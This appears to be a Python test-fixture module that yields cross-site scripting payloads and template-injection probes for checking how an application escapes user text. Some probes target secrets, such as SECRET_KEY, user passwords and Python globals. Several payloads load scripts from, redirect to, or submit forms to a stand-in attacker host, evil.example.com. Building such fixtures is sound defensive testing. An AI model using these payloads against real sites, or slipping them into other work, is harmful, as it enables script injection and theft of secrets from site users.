"""Texts that would act where somebody reads them: markup, addresses that run, and the signs of template languages."""

from collections.abc import Iterator
from typing import Final

EVIL: Final = "http://evil.example.com"
_HANDLERS: Final = (
    "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>", "<svg/onload=alert({n})//", "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>", "<input autofocus onfocus=alert({n})>", "<video><source onerror=alert({n})>",
    "<marquee onstart=alert({n})>", "<a onmouseover=alert({n}) href=#>x</a>", "<iframe onload=alert({n})>",
)  # fmt: skip
_MARKUP: Final = (
    "<script>alert({n})</script>", "</textarea><script>alert({n})</script>", "</title><script>alert({n})</script>",
    "</script><script>alert({n})</script>", "<ScRiPt>alert({n})</sCrIpT>", "<script src={e}/{n}.js></script>",
    "<iframe srcdoc='<script>alert({n})</script>'>", "<iframe src=javascript:alert({n})>", "<img src={e}/{n}.png>",
    "<link rel=stylesheet href={e}/{n}.css>", "<style>@import '{e}/{n}.css'</style>", "<base href={e}/>",
    "<meta http-equiv=refresh content='0;url={e}/{n}'>", "<form action={e}/{n}><button autofocus>x</button></form>",
    "<object data={e}/{n}.swf></object>", "<embed src={e}/{n}.swf>", "<math><mtext><img src=x onerror=alert({n})></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>", "<svg><a xlink:href=javascript:alert({n})>x</a></svg>",
    "<div style=background:url({e}/{n}.png)>x</div>", "<template><img src={e}/{n}.png></template>",
)  # fmt: skip
_QUOTES: Final = (
    "\" onmouseover=alert({n}) x=\"", "' onfocus=alert({n}) autofocus x='", "\"><img src=x onerror=alert({n})>",
    "'><svg onload=alert({n})>", "` onerror=alert({n}) `", "--><script>alert({n})</script>", "]]><script>alert({n})</script>",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;img src=x onerror=alert({n})&#62;", "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert({n})\\u003e", "%3Cscript%3Ealert({n})%3C/script%3E",
)  # fmt: skip
_ADDRESSES: Final = (
    "javascript:alert({n})", "JaVaScRiPt:alert({n})", "java\tscript:alert({n})", "data:text/html,<script>alert({n})</script>",
    "vbscript:msgbox({n})", "//evil.example.com/{n}", "\\\\evil.example.com\\{n}", "{e}/{n}", "[x](javascript:alert({n}))",
    "![x]({e}/{n}.png)", "<javascript:alert({n})>", "[x]: {e}/{n} 'y'", "<{e}/{n}>",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{{{ 7777 * 7 }}}}", "{{{{ settings.SECRET_KEY }}}}", "{{% load static %}}", "{{% debug %}}", "{{% include 'base.html' %}}",
    "{{{{ request.user.password }}}}", "{{{{ ''.__class__.__mro__ }}}}", "{{0.__class__}}", "{{self.__init__.__globals__}}",
    "${{7777*7}}", "#{{7777*7}}", "<%= 7777*7 %>", "%(place)s", "%(settings)s", "%s%s%n", "%00", "{{{{ name|safe }}}}",
    "{{% csrf_token %}}", "{{% autoescape off %}}<b>{n}</b>{{% endautoescape %}}", "{{# {n} #}}", "$name ${{settings}}",
)  # fmt: skip
SUM: Final = "54439"
"""What stands there where somebody worked out 7777 * 7."""


def markup() -> Iterator[str]:
    """Texts for a browser."""
    for number, one in enumerate((*_HANDLERS, *_MARKUP, *_QUOTES, *_ADDRESSES)):
        yield one.format(n=number, e=EVIL)


def templates() -> Iterator[str]:
    """Texts for whoever renders templates, each alone and within words."""
    for number, one in enumerate((*_TEMPLATES, *_QUOTES, *_HANDLERS, *_ADDRESSES)):
        text = one.format(n=number, e=EVIL)
        yield from (text, f"Shop {text} & Sons")
